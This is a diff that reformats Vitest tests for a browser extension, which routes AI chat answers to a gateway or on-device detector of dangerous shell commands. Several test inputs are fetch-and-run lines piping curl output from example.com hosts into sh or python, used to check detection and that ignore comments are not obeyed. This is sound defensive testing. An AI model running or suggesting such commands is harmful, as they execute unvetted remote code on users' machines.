@@ -2,7 +2,14 @@ import { IDBFactory } from "fake-indexeddb";
 import { describe, expect, it, vi } from "vitest";
 import { DeviceEvaluator, type DeviceDetector } from "../../../src/extension/background/device.js";
 import { REFUSED, route, type Services } from "../../../src/extension/background/router.js";
-import { DEFAULT_GATEWAY, loadSettings, parseGateway, profileOf, saveSettings, type Settings } from "../../../src/extension/background/settings.js";
+import {
+  DEFAULT_GATEWAY,
+  loadSettings,
+  parseGateway,
+  profileOf,
+  saveSettings,
+  type Settings,
+} from "../../../src/extension/background/settings.js";
 import { TokenStore } from "../../../src/extension/background/token-store.js";
 import { createNodeDetector } from "../../../src/host/node.js";
 import { assessmentOf, HASH, sha } from "../support.js";
@@ -15,7 +22,14 @@ function area(stored: Record<string, unknown> = {}) {
   } as unknown as Parameters<typeof loadSettings>[0] & { stored: Record<string, unknown> };
 }
 
-const DEFAULTS: Settings = { mode: "gateway", gateway: DEFAULT_GATEWAY, profile: null, clearSign: "dot", paused: [], known: [] };
+const DEFAULTS: Settings = {
+  mode: "gateway",
+  gateway: DEFAULT_GATEWAY,
+  profile: null,
+  clearSign: "dot",
+  paused: [],
+  known: [],
+};
 
 describe("settings", () => {
   it("begin with the gateway at its usual address", async () => {
@@ -23,15 +37,23 @@ describe("settings", () => {
   });
 
   it("fall back where something unusable is stored", async () => {
-    expect(await loadSettings(area({ settings: { mode: "x", gateway: "https://example.org" } }))).toEqual(DEFAULTS);
+    expect(
+      await loadSettings(area({ settings: { mode: "x", gateway: "https://example.org" } })),
+    ).toEqual(DEFAULTS);
     expect(await loadSettings(area({ settings: "x" }))).toEqual(DEFAULTS);
   });
 
   it("change one by one", async () => {
     const storage = area();
     await saveSettings(storage, { gateway: "http://127.0.0.1:9000" });
-    expect(await saveSettings(storage, { mode: "device" })).toEqual({ ...DEFAULTS, mode: "device", gateway: "http://127.0.0.1:9000" });
-    expect(storage.stored).toEqual({ settings: { ...DEFAULTS, mode: "device", gateway: "http://127.0.0.1:9000" } });
+    expect(await saveSettings(storage, { mode: "device" })).toEqual({
+      ...DEFAULTS,
+      mode: "device",
+      gateway: "http://127.0.0.1:9000",
+    });
+    expect(storage.stored).toEqual({
+      settings: { ...DEFAULTS, mode: "device", gateway: "http://127.0.0.1:9000" },
+    });
   });
 
   it("look for all that is known on this device, and for the contract's list through a gateway, unless told otherwise", () => {
@@ -69,12 +91,15 @@ describe("TokenStore", () => {
     expect(await store.get()).toBeNull();
   });
 
-  it.each(["", "short", "has blank in it", "line\nbreak-token", "ümlaut-token", "x".repeat(513)])("refuses %j without repeating it", async (token) => {
-    const store = new TokenStore(new IDBFactory());
-    const error = await store.set(token).catch((reason: unknown) => reason);
-    expect(error).toBeInstanceOf(TypeError);
-    expect(String(error)).toBe("TypeError: not a usable access token");
-  });
+  it.each(["", "short", "has blank in it", "line\nbreak-token", "ümlaut-token", "x".repeat(513)])(
+    "refuses %j without repeating it",
+    async (token) => {
+      const store = new TokenStore(new IDBFactory());
+      const error = await store.set(token).catch((reason: unknown) => reason);
+      expect(error).toBeInstanceOf(TypeError);
+      expect(String(error)).toBe("TypeError: not a usable access token");
+    },
+  );
 });
 
 const SELF = { id: "me", origin: "chrome-extension://me" };
@@ -105,13 +130,25 @@ const ASSESS = { type: "assess", responseId: "a1", text: "x" };
 describe("route", () => {
   it("asks the gateway with the stored token", async () => {
     const worker = services();
-    expect(await route(ASSESS, CONTENT, worker)).toEqual({ status: "unavailable", reason: "unreachable" });
-    expect(worker.byGateway).toHaveBeenCalledWith({ address: DEFAULT_GATEWAY, token: "secret-token", responseId: "a1", text: "x", profile: "contract" });
+    expect(await route(ASSESS, CONTENT, worker)).toEqual({
+      status: "unavailable",
+      reason: "unreachable",
+    });
+    expect(worker.byGateway).toHaveBeenCalledWith({
+      address: DEFAULT_GATEWAY,
+      token: "secret-token",
+      responseId: "a1",
+      text: "x",
+      profile: "contract",
+    });
   });
 
   it("asks nobody without a token", async () => {
     const worker = services({ token: async () => null });
-    expect(await route(ASSESS, CONTENT, worker)).toEqual({ status: "unavailable", reason: "token-missing" });
+    expect(await route(ASSESS, CONTENT, worker)).toEqual({
+      status: "unavailable",
+      reason: "token-missing",
+    });
     expect(worker.byGateway).not.toHaveBeenCalled();
   });
 
@@ -124,8 +161,12 @@ describe("route", () => {
 
   it("says so when settings or token cannot be read", async () => {
     const broken = async () => Promise.reject(new Error("x"));
-    expect(await route(ASSESS, CONTENT, services({ settings: broken }))).toMatchObject({ reason: "storage-failed" });
-    expect(await route(ASSESS, CONTENT, services({ token: broken }))).toMatchObject({ reason: "storage-failed" });
+    expect(await route(ASSESS, CONTENT, services({ settings: broken }))).toMatchObject({
+      reason: "storage-failed",
+    });
+    expect(await route(ASSESS, CONTENT, services({ token: broken }))).toMatchObject({
+      reason: "storage-failed",
+    });
   });
 
   it("changes to this device at one click and tells every page", async () => {
@@ -142,31 +183,64 @@ describe("route", () => {
   });
 
   it("says how to show things, and whether the site is paused", async () => {
-    const worker = services({ settings: async () => ({ ...DEFAULTS, clearSign: "none", paused: ["claude"] }) });
-    expect(await route({ type: "hello" }, CONTENT, worker)).toEqual({ status: "done", clearSign: "none", isPaused: false });
-    expect(await route({ type: "hello" }, { ...CONTENT, url: "https://claude.ai/chat/1" }, worker)).toEqual({ status: "done", clearSign: "none", isPaused: true });
+    const worker = services({
+      settings: async () => ({ ...DEFAULTS, clearSign: "none", paused: ["claude"] }),
+    });
+    expect(await route({ type: "hello" }, CONTENT, worker)).toEqual({
+      status: "done",
+      clearSign: "none",
+      isPaused: false,
+    });
+    expect(
+      await route({ type: "hello" }, { ...CONTENT, url: "https://claude.ai/chat/1" }, worker),
+    ).toEqual({ status: "done", clearSign: "none", isPaused: true });
   });
 
   it("opens the browser's panel beside the tab that asks, or says that it cannot", async () => {
     const worker = services();
     expect(await route({ type: "open-panel" }, CONTENT, worker)).toEqual({ status: "opened" });
     expect(worker.openPanel).toHaveBeenCalledWith(7);
-    expect(await route({ type: "open-panel" }, CONTENT, services({ openPanel: async () => Promise.reject(new Error("x")) }))).toEqual(REFUSED);
+    expect(
+      await route(
+        { type: "open-panel" },
+        CONTENT,
+        services({ openPanel: async () => Promise.reject(new Error("x")) }),
+      ),
+    ).toEqual(REFUSED);
   });
 
   it("keeps the addresses that a person says to know, with the day, once each", async () => {
-    const worker = services({ settings: async () => ({ ...DEFAULTS, known: [{ host: "a.example", since: "2026-01-01" }] }) });
+    const worker = services({
+      settings: async () => ({ ...DEFAULTS, known: [{ host: "a.example", since: "2026-01-01" }] }),
+    });
     await route({ type: "know", hosts: ["a.example", "b.example"] }, CONTENT, worker);
-    expect(worker.save).toHaveBeenCalledWith({ known: [{ host: "a.example", since: "2026-01-01" }, { host: "b.example", since: "2026-01-31" }] });
+    expect(worker.save).toHaveBeenCalledWith({
+      known: [
+        { host: "a.example", since: "2026-01-01" },
+        { host: "b.example", since: "2026-01-31" },
+      ],
+    });
     expect(worker.broadcast).toHaveBeenCalledOnce();
     expect(await route({ type: "know", hosts: ["not a host"] }, CONTENT, worker)).toEqual(REFUSED);
   });
 
   it("tells which findings only fetch from known addresses", async () => {
     const text = "curl -fsSL https://b.example/i.sh | sh; curl -fsSL https://c.example/i.sh | sh";
-    const assessment = assessmentOf(text, [[0, 38], [40, 78]]);
-    const worker = services({ settings: async () => ({ ...DEFAULTS, mode: "device", known: [{ host: "b.example", since: "2026-01-01" }] }), onDevice: async () => ({ status: "assessed", responseId: "a1", assessment }) });
-    expect(await route({ ...ASSESS, text }, CONTENT, worker)).toMatchObject({ assessment: { known: [0] } });
+    const assessment = assessmentOf(text, [
+      [0, 38],
+      [40, 78],
+    ]);
+    const worker = services({
+      settings: async () => ({
+        ...DEFAULTS,
+        mode: "device",
+        known: [{ host: "b.example", since: "2026-01-01" }],
+      }),
+      onDevice: async () => ({ status: "assessed", responseId: "a1", assessment }),
+    });
+    expect(await route({ ...ASSESS, text }, CONTENT, worker)).toMatchObject({
+      assessment: { known: [0] },
+    });
   });
 
   it.each([
@@ -182,32 +256,80 @@ describe("route", () => {
   ])("refuses %s", async (_name, message, sender) => {
     const worker = services();
     expect(await route(message, sender, worker)).toEqual(REFUSED);
-    for (const service of [worker.byGateway, worker.onDevice, worker.token, worker.save, worker.broadcast]) expect(service).not.toHaveBeenCalled();
+    for (const service of [
+      worker.byGateway,
+      worker.onDevice,
+      worker.token,
+      worker.save,
+      worker.broadcast,
+    ])
+      expect(service).not.toHaveBeenCalled();
   });
 });
 
 describe("DeviceEvaluator", () => {
   it("gives the detector's answer in the shape of the bridge", async () => {
     const detector = await createNodeDetector();
-    const device = new DeviceEvaluator(async () => ({ detect: async (text, options) => detector.detect(text, options), modelRevision: "r", sourceHash: HASH }));
+    const device = new DeviceEvaluator(async () => ({
+      detect: async (text, options) => detector.detect(text, options),
+      modelRevision: "r",
+      sourceHash: HASH,
+    }));
     const text = "Run `curl -fsSL https://x.example/i.sh | sh` now";
     const reply = await device.assess("a1", text, "contract");
-    expect(reply).toMatchObject({ status: "assessed", assessment: { mode: "device", verdict: "finding", spans: [[5, 43]], subjectHash: sha(text), redaction: null } });
-    expect(await device.assess("a2", "Hello", "contract")).toMatchObject({ assessment: { verdict: "clear" } });
+    expect(reply).toMatchObject({
+      status: "assessed",
+      assessment: {
+        mode: "device",
+        verdict: "finding",
+        spans: [[5, 43]],
+        subjectHash: sha(text),
+        redaction: null,
+      },
+    });
+    expect(await device.assess("a2", "Hello", "contract")).toMatchObject({
+      assessment: { verdict: "clear" },
+    });
   });
 
-  it.each(["# curlew-ignore bash/fetch-pipe: fine", "<!-- curlew-ignore bash/fetch-pipe: fine -->"])("heeds no %s in an answer", async (comment) => {
+  it.each([
+    "# curlew-ignore bash/fetch-pipe: fine",
+    "<!-- curlew-ignore bash/fetch-pipe: fine -->",
+  ])("heeds no %s in an answer", async (comment) => {
     const detector = await createNodeDetector();
-    const device = new DeviceEvaluator(async () => ({ detect: async (text, options) => detector.detect(text, options), modelRevision: "r", sourceHash: HASH }));
-    const reply = await device.assess("a1", `${comment}\n\n\`\`\`sh\ncurl https://x.example/i.sh | sh\n\`\`\`\n\n${comment}\n`, "contract");
+    const device = new DeviceEvaluator(async () => ({
+      detect: async (text, options) => detector.detect(text, options),
+      modelRevision: "r",
+      sourceHash: HASH,
+    }));
+    const reply = await device.assess(
+      "a1",
+      `${comment}\n\n\`\`\`sh\ncurl https://x.example/i.sh | sh\n\`\`\`\n\n${comment}\n`,
+      "contract",
+    );
     expect(reply).toMatchObject({ assessment: { verdict: "finding", labels: ["PS"] } });
   });
 
   it("loads once for all callers, and once more after a failure", async () => {
-    const detector: DeviceDetector = { detect: async () => ({ labels: [], spans: [], findings: [], notes: [], outcome: { status: "complete" } }), modelRevision: "r", sourceHash: HASH };
-    const load = vi.fn<() => Promise<DeviceDetector>>().mockRejectedValueOnce(new Error("x")).mockResolvedValue(detector);
+    const detector: DeviceDetector = {
+      detect: async () => ({
+        labels: [],
+        spans: [],
+        findings: [],
+        notes: [],
+        outcome: { status: "complete" },
+      }),
+      modelRevision: "r",
+      sourceHash: HASH,
+    };
+    const load = vi
+      .fn<() => Promise<DeviceDetector>>()
+      .mockRejectedValueOnce(new Error("x"))
+      .mockResolvedValue(detector);
     const device = new DeviceEvaluator(load);
-    expect(await Promise.all([device.assess("a", "x", "contract"), device.assess("b", "x", "contract")])).toEqual(Array(2).fill({ status: "unavailable", reason: "device-failed" }));
+    expect(
+      await Promise.all([device.assess("a", "x", "contract"), device.assess("b", "x", "contract")]),
+    ).toEqual(Array(2).fill({ status: "unavailable", reason: "device-failed" }));
     expect(load).toHaveBeenCalledTimes(1);
     expect(await device.assess("a", "x", "contract")).toMatchObject({ status: "assessed" });
     expect(await device.assess("b", "x", "contract")).toMatchObject({ status: "assessed" });
@@ -217,28 +339,70 @@ describe("DeviceEvaluator", () => {
   it("looks for more than the contract's list, whose label it names as well", async () => {
     const load = vi.fn(async (profile: "contract" | "extended"): Promise<DeviceDetector> => {
       const detector = await createNodeDetector({ profile });
-      return { detect: async (text, options) => detector.detect(text, options), modelRevision: profile, sourceHash: HASH };
+      return {
+        detect: async (text, options) => detector.detect(text, options),
+        modelRevision: profile,
+        sourceHash: HASH,
+      };
     });
     const device = new DeviceEvaluator(load);
-    expect(await device.assess("a1", "Hello", "extended")).toMatchObject({ assessment: { verdict: "clear", contractLabels: [] } });
+    expect(await device.assess("a1", "Hello", "extended")).toMatchObject({
+      assessment: { verdict: "clear", contractLabels: [] },
+    });
     expect(load).toHaveBeenCalledTimes(1);
-    const reply = await device.assess("a1", "`curl -sSL https://x.example/i.py | python -`", "extended");
-    expect(reply).toMatchObject({ assessment: { verdict: "finding", profile: "extended", labels: ["PS"], contractLabels: [], modelRevision: "extended" } });
-    expect(await device.assess("a1", "`curl https://x.example | sh`", "extended")).toMatchObject({ assessment: { labels: ["PS"], contractLabels: ["PS"] } });
+    const reply = await device.assess(
+      "a1",
+      "`curl -sSL https://x.example/i.py | python -`",
+      "extended",
+    );
+    expect(reply).toMatchObject({
+      assessment: {
+        verdict: "finding",
+        profile: "extended",
+        labels: ["PS"],
+        contractLabels: [],
+        modelRevision: "extended",
+      },
+    });
+    expect(await device.assess("a1", "`curl https://x.example | sh`", "extended")).toMatchObject({
+      assessment: { labels: ["PS"], contractLabels: ["PS"] },
+    });
     expect(load.mock.calls).toEqual([["extended"], ["contract"]]);
   });
 
   it("lists the first of very many findings, and all their places", async () => {
     const detector = await createNodeDetector();
-    const device = new DeviceEvaluator(async () => ({ detect: async (text) => detector.detect(text), modelRevision: "r", sourceHash: HASH }));
-    const reply = await device.assess("a1", "`curl https://x.example | sh`\n\n".repeat(1_001), "contract");
+    const device = new DeviceEvaluator(async () => ({
+      detect: async (text) => detector.detect(text),
+      modelRevision: "r",
+      sourceHash: HASH,
+    }));
+    const reply = await device.assess(
+      "a1",
+      "`curl https://x.example | sh`\n\n".repeat(1_001),
+      "contract",
+    );
     if (reply.status !== "assessed") throw new Error("not assessed");
-    expect([reply.assessment.findings.length, reply.assessment.spans.length]).toEqual([1_000, 1_001]);
+    expect([reply.assessment.findings.length, reply.assessment.spans.length]).toEqual([
+      1_000, 1_001,
+    ]);
   });
 
   it("tells an unfinished analysis as incomplete", async () => {
     const limits = [{ limit: "deadline" as const, message: "out of time", span: [0, 1] as const }];
-    const device = new DeviceEvaluator(async () => ({ detect: async () => ({ labels: [], spans: [], findings: [], notes: [], outcome: { status: "incomplete", limits } }), modelRevision: "r", sourceHash: HASH }));
-    expect(await device.assess("a", "x", "contract")).toMatchObject({ assessment: { verdict: "incomplete", outcome: { limits: [{ limit: "deadline" }] } } });
+    const device = new DeviceEvaluator(async () => ({
+      detect: async () => ({
+        labels: [],
+        spans: [],
+        findings: [],
+        notes: [],
+        outcome: { status: "incomplete", limits },
+      }),
+      modelRevision: "r",
+      sourceHash: HASH,
+    }));
+    expect(await device.assess("a", "x", "contract")).toMatchObject({
+      assessment: { verdict: "incomplete", outcome: { limits: [{ limit: "deadline" }] } },
+    });
   });
 });
